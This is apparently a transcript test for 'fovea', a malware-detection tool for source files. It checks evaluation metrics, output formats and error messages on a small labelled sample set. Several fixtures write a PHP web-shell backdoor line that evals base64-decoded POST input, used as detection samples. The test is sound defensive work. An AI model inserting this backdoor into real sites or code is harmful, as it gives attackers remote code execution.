# fovea eval, info and predict with a model of files; figures are not what is tested here.
$ model=$(cd "$TRANSCRIPTS/../.." && pwd)/models/fovea-files.safetensors
$ mkdir -p set/benign/php set/benign/js set/malicious/php set/infected/php set/clean/php set/malicious_package/py/p
$ for i in 1 2 3 4 5; do echo "<?php echo 'page $i';" > set/benign/php/$i; echo "var page = $i;" > set/benign/js/$i; done
$ printf '<?php @eval(base64_decode($_POST["c"]));\n' > set/malicious/php/1
$ printf '<?php\necho "hello";\n' > set/clean/php/a
$ printf '<?php\necho "hello";\n@eval(base64_decode($_POST["c"]));\n' > set/infected/php/a
$ printf 'print("hello")\n' > set/malicious_package/py/p/one
$ printf 'import os\n' > set/malicious_package/py/p/two
$ echo '{"id": "a", "language": "php", "spans": [[20, 54]], "source": "shop"}' > set.jsonl
$ fovea eval "$model" set --scores scores.csv > out.txt; cat out.txt
task               files
re: model              \S.*
samples            15
...

js: 5 benign
...

php: 6 benign (1 of them clean originals), 1 infected, 1 malicious
re:   found at false alarms +AUROC +1 % +0\.1 % +0\.01 %
re:   infected +[01]\.\d{4}  .*
re:   malicious +[01]\.\d{4}  .*
  (1 %, 0.1 %, 0.01 % of 6 files are less than one: no false alarm at all)
re:   at the model's threshold for +1 % +0\.1 % +0\.01 %
re:   false alarms +.* % \(.*
re:   clean originals flagged +.* % \(.*
re:   infected found +.* % \(.*
re:   malicious found +.* % \(.*
re:   language told right: .*
  place, where it is known: 1 files
re:     hottest region hits .* % \(.*\)  precision .*  recall .*  IoU .*
...

py: 0 benign, 1 package
  no benign files: nothing to tell them from, and no rate of false alarms
...

all: 11 benign (1 of them clean originals), 1 infected, 1 malicious, 1 package
...
$ head -1 scores.csv; wc -l < scores.csv; cut -d, -f2 scores.csv | sort | uniq -c
path,label,language,told,source,package,logit,score,finding_at,start,end
16
re:  +10 benign
re:  +1 clean
re:  +1 infected
re:  +1 label
re:  +1 malicious
re:  +2 malicious_package
# The same whatever the threads, and in an archive.
$ fovea eval "$model" set --scores again.csv --threads 1 > again.txt; cmp out.txt again.txt; cmp scores.csv again.csv
$ tar cf one.tar -C set . && cp set.jsonl one.jsonl && fovea eval "$model" one.tar > tar.txt; diff <(grep -v ^note out.txt) <(grep -v ^note tar.txt)
# Several at once.
$ fovea eval "$model" set one.tar | grep -E '^(samples|php:)'
samples            30
php: 12 benign (2 of them clean originals), 2 infected, 2 malicious
$ fovea eval "$model" set --format json | python3 -c "
> import json, sys
> e = json.load(sys.stdin)
> php = e['languages']['php']
> print(e['task'], e['samples'], sorted(e['languages']), sorted(php['kinds']))
> print(all(0 <= v <= 1 for v in e['metrics'].values()), 'auroc' in e['metrics'])
> print(php['kinds']['infected']['found']['0.001']['total'], php['clean_flagged']['0.0001']['total'])
> print(php['location']['files'], 'auroc' in e['languages']['py']['kinds']['package'])"
files 15 ['js', 'php', 'py'] ['infected', 'malicious']
True True
1 1
1 False
# Only some sources.
$ fovea eval "$model" set --source shop | grep -E '^(samples|note|php)'
samples            2
note               set: 13 members are not in set.jsonl
note               set: 13 files of other sources are left out
php: 1 benign (1 of them clean originals), 1 infected
$ fovea eval "$model" set --source shop --source set | grep samples
samples            15
$ fovea eval "$model" set --source nowhere
fovea: set: holds no file of the sources that were asked for; see the names of sources in the table beside it
[2]
$ fovea eval "$model" set --scores no/scores.csv
fovea: no/scores.csv: cannot be written: No such file or directory; make its folder first
[2]
$ mkdir empty; fovea eval "$model" empty
fovea: empty: holds no labelled file; put files into benign/LANGUAGE/ or malicious/LANGUAGE/
[2]
$ fovea eval "$model" nowhere
re: fovea: nowhere: no such file.*
[2]

$ fovea eval "$model" set --separator tab
fovea: --separator is for models of tables and series; see `fovea eval --help`
[2]

# What else there is for models of files.
$ fovea attend "$model" set --places 3
fovea: --places is for models of tables and series; see `fovea attend --help`
[2]
$ fovea predict "$model" set | cat
re: fovea: .*fovea-files\.safetensors: is a model of files, which has no rows of data to tell of; use `fovea scan --model` or `fovea attend`
$ fovea info "$model"
task                       files
re: name                       \S.*
re: parameters                 [\d,]+
re: languages                  \S.*
re: bytes                      [\d,]+
threshold on the score, by rate of false alarms
...
model
...
training
...
metrics in training
...
re: written by                 fovea .*
$ fovea info "$model" --format json | python3 -c "
> import json, sys
> info = json.load(sys.stdin)
> print(info['task'], sorted(info['thresholds']) == sorted(info['languages']))
> print(all(t['0.01'] <= t['0.001'] <= t['0.0001'] for t in info['thresholds'].values()))"
files True
True
